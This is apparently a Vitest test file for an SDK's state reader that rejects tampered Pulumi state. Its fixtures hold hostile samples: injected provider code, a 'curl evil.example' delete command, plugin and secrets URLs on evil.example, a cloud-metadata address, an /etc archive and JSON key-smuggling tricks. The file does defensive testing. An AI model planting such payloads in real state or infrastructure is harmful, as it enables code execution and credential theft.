import { utimesSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { readOwnState, type StateLocation } from "../../../sdk/src/state";
import { checkpoint, resource, temporaryFolder, write } from "./state-fixture";

/** A state in a folder of its own. */
function stateOf(text: string | Uint8Array, name = "charter/main.json") {
  const folder = temporaryFolder();
  const location: StateLocation = { backendUrl: `file://${folder}`, project: "charter", stack: "main" };
  return { location, file: write(join(folder, ".pulumi/stacks", name), text) };
}

const kim = resource("Membership", "acme/members/kim@acme.example", { id: "mem_1" });
const urnOfKim = "urn:pulumi:main::charter::pulumi-nodejs:dynamic/charter:Membership::acme/members/kim@acme.example";
const own = 'exports.handler=()=>require("@charter/sdk/dynamic").Membership';
const other = 'exports.handler=()=>{require("fs").writeFileSync("/tmp/was-here","")}';

/** A state of Charter's, with what a stranger put into its deployment. */
function deployment(more: object, resources: readonly object[] = [kim]): string {
  const state = JSON.parse(checkpoint(resources));
  Object.assign(state.checkpoint.latest, more);
  return JSON.stringify(state);
}

const provider = "urn:pulumi:main::charter::pulumi:providers:pulumi-nodejs::default";
const providerWith = (inputs: object) =>
  checkpoint([{ urn: provider, custom: true, id: "1", type: "pulumi:providers:pulumi-nodejs", inputs }]);
const typed = (type: string, more: object = {}) => ({
  urn: `urn:pulumi:main::charter::${type}::x`,
  custom: true,
  id: "1",
  type,
  ...more,
});
const mark = "4dabf18193072939515e22adb298388d";
const asset = { [mark]: "c44067f5952c0a294b673a41bacd8c17", uri: "http://169.254.169.254/latest/meta-data" };
const archive = { [mark]: "0def7320c3a5731c473e5ecbe6d01bc7", path: "/etc" };
const secret = { [mark]: "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:AAAA" };
const keptBy = (type: string, state: object) => ({ secrets_providers: { type, state } });

const strange: readonly (readonly [what: string, text: string, problem: string])[] = [
  [
    "other code in the inputs",
    checkpoint([{ ...kim, inputs: { __provider: other } }]),
    `${urnOfKim} in it has code for its provider (\`__provider\`) that is not Charter's`,
  ],
  [
    "other code in the outputs alone",
    checkpoint([{ ...kim, outputs: { __provider: other } }]),
    `${urnOfKim} in it has code for its provider (\`__provider\`) that is not Charter's`,
  ],
  [
    "another kind's line, which would do another thing",
    checkpoint([{ ...kim, inputs: { __provider: own.replace("Membership", "Guard") } }]),
    `${urnOfKim} in it has code for its provider (\`__provider\`) that is not Charter's`,
  ],
  [
    "a line that only begins like Charter's",
    checkpoint([{ ...kim, inputs: { __provider: `${own};require("fs")` } }]),
    `${urnOfKim} in it has code for its provider (\`__provider\`) that is not Charter's`,
  ],
  [
    "code that is encrypted",
    checkpoint([{ ...kim, inputs: { __provider: secret } }]),
    `${urnOfKim} in it has code for its provider (\`__provider\`) that is not Charter's`,
  ],
  [
    "other code in an old copy that the engine still has to delete",
    checkpoint([kim, { ...kim, delete: true, inputs: { __provider: other } }]),
    `${urnOfKim} in it has code for its provider (\`__provider\`) that is not Charter's`,
  ],
  [
    "other code in an operation that was under way",
    checkpoint([], [{ type: "creating", resource: { ...kim, inputs: { __provider: other } } }]),
    `${urnOfKim} in it has code for its provider (\`__provider\`) that is not Charter's`,
  ],
  [
    "a dynamic resource of another type",
    checkpoint([typed("pulumi-nodejs:dynamic:Resource", { inputs: { __provider: own } })]),
    "urn:pulumi:main::charter::pulumi-nodejs:dynamic:Resource::x in it is of a type that Charter does not make",
  ],
  [
    "a resource of another package",
    checkpoint([typed("command:local:Command", { inputs: { delete: "curl evil.example" } })]),
    "urn:pulumi:main::charter::command:local:Command::x in it is of a type that Charter does not make",
  ],
  [
    "the provider of another package",
    checkpoint([typed("pulumi:providers:command")]),
    "urn:pulumi:main::charter::pulumi:providers:command::x in it is of a type that Charter does not make",
  ],
  [
    "a component",
    checkpoint([typed("acme:platform:Team", { custom: false })]),
    "urn:pulumi:main::charter::acme:platform:Team::x in it is of a type that Charter does not make",
  ],
  [
    "a type that its URN does not say",
    checkpoint([{ ...kim, type: "command:local:Command" }]),
    `${urnOfKim} in it is said to be of the type "command:local:Command"`,
  ],
  [
    "a resource of another project",
    checkpoint([resource("Membership", "acme/members/kim@acme.example", { project: "website" })]),
    `${urnOfKim.replace("::charter::", "::website::")} in it belongs to another project`,
  ],
  [
    "a place where the plugin comes from",
    providerWith({ pluginDownloadURL: "https://evil.example" }),
    `${provider} in it sets "pluginDownloadURL" of its plugin`,
  ],
  [
    "what the engine keeps in a provider for itself",
    providerWith({ __internal: { pluginDownloadURL: "https://evil.example" } }),
    `${provider} in it sets "__internal" of its plugin`,
  ],
  [
    "a file that the engine would read",
    checkpoint([{ ...kim, outputs: { __provider: own, a: [{ b: archive }] } }]),
    `${urnOfKim} in it holds a file or a secret`,
  ],
  [
    "an address that the engine would fetch",
    checkpoint([{ ...kim, inputs: { __provider: own, asset } }]),
    `${urnOfKim} in it holds a file or a secret`,
  ],
  ["such an address in the configuration", providerWith({ "charter:a": asset }), `${provider} in it holds a file`],
  [
    "an extension of a plugin",
    checkpoint([{ ...kim, extensionRef: "sha256:1" }]),
    `${urnOfKim} in it has an extension of its plugin`,
  ],
  ["snippets", deployment({ snippets: [{ code: "x" }] }), "it holds snippets, which the engine would run"],
  ["extensions", deployment({ extensions: { a: {} } }), "it holds extensions, which the engine would run"],
  [
    "a cloud that keeps its secrets, at an address",
    deployment(keptBy("cloud", { url: "awskms://key?endpoint=evil.example", encryptedkey: "AA==" })),
    'its secrets are kept by "cloud", which Pulumi would call',
  ],
  [
    "a service that keeps its secrets, at an address",
    deployment(keptBy("service", { url: "https://evil.example" })),
    'its secrets are kept by "service", which Pulumi would call',
  ],
  [
    "a name in other letters, which Go takes for the one it knows",
    deployment({ Resources: [typed("command:local:Command")] }),
    'it has a member "Resources", which is no name of Pulumi\'s',
  ],
  [
    "a name in letters that only Unicode takes for those",
    checkpoint([{ ...kim, "input\u017f": { __provider: other } }]),
    'it has a member "input\u017f", which is no name of Pulumi\'s',
  ],
  [
    "a name twice, of which Go takes both",
    checkpoint([kim]).replace('"latest":{', `"latest":{"snippets":[{"code":"x"}]},"latest":{`),
    'it says "latest" twice in one place',
  ],
  [
    "a name twice, spelled with an escape",
    checkpoint([kim]).replace(`"__provider":"exports`, `"__pr\\u006fvider" : "other","__provider":"exports`),
    'it says "__provider" twice in one place',
  ],
];

describe("a state that the engine may be given holds nothing but what Charter registers: refused is", () => {
  test.each(strange)("%s", async (_, text, problem) => {
    const { location, file } = stateOf(text);
    await expect(readOwnState(location)).rejects.toMatchObject({
      code: "foreign-state",
      message: `The state in ${file} is not as Charter writes it: ${problem}. Nothing was run.`,
    });
  });

  test("one that says no version, so that Pulumi reads it otherwise", async () => {
    const { location } = stateOf(checkpoint([kim]).replace('"version":3,', ""));
    await expect(readOwnState(location)).rejects.toMatchObject({ code: "unknown-state-version" });
  });

  test("the same in a compressed one", async () => {
    const { location } = stateOf(gzipSync(deployment({ snippets: [{ code: "x" }] })), "charter/main.json.gz");
    await expect(readOwnState(location)).rejects.toMatchObject({ code: "foreign-state" });
  });

  test("the same in one from before there were projects, though there is a clean one as well: Pulumi may take either", async () => {
    const { location, file } = stateOf(checkpoint([kim]));
    const legacy = write(join(file, "../../main.json"), deployment({ snippets: [{ code: "x" }] }));
    await expect(readOwnState(location)).rejects.toMatchObject({
      code: "foreign-state",
      message: expect.stringContaining(legacy),
    });
  });

  test("the compressed one of two files of the same moment, which Pulumi takes, too", async () => {
    const { location, file } = stateOf(checkpoint([kim]));
    const compressed = write(`${file}.gz`, gzipSync(deployment({ snippets: [{ code: "x" }] })));
    for (const one of [file, compressed]) utimesSync(one, 1, 1);
    await expect(readOwnState(location)).rejects.toMatchObject({
      code: "foreign-state",
      message: expect.stringContaining(compressed),
    });
  });
});

describe("a state of Charter's own is taken:", () => {
  test.each([
    [
      "with what people configured for their stack",
      providerWith({ "charter:team": "a", "aws:region": "b", version: "3.270.0" }),
    ],
    ["with secrets in that", providerWith({ "charter:password": secret })],
    ["with a run that was killed in the middle", checkpoint([], [{ type: "creating", resource: kim }])],
    ["with something that failed halfway", checkpoint([{ ...kim, initErrors: ["it was refused"] }])],
    [
      "with what a newer Pulumi keeps beside",
      deployment({ journal: [], metadata: {} }, [{ ...kim, refreshedAt: "today" }]),
    ],
    ["encrypted by a passphrase", deployment(keptBy("passphrase", { salt: "v1:AA==" }))],
    ["never updated", JSON.stringify({ version: 3, checkpoint: { stack: "organization/charter/main" } })],
    [
      "of the same names in different places",
      checkpoint([{ ...kim, outputs: { __provider: own, a: { a: 1 }, b: [{ a: 2 }, { a: 3 }] } }]),
    ],
    ["of texts that look like JSON", checkpoint([{ ...kim, outputs: { __provider: own, reason: '{"a":1,"a":2}\\' } }])],
  ])("%s", async (_, text) => {
    expect(await readOwnState(stateOf(text).location)).toMatchObject({ isCopy: false, managed: { source: "state" } });
  });

  test("printed over several lines, as older Pulumis did", async () => {
    const text = JSON.stringify(JSON.parse(checkpoint([kim])), undefined, 4);
    const { managed } = await readOwnState(stateOf(text).location);
    expect([...managed.objects.keys()]).toEqual(["acme/members/kim@acme.example"]);
  });

  test("none at all", async () => {
    const location = { backendUrl: `file://${temporaryFolder()}`, project: "charter", stack: "main" };
    expect(await readOwnState(location)).toEqual({ managed: { source: "state", objects: new Map() }, isCopy: false });
  });
});
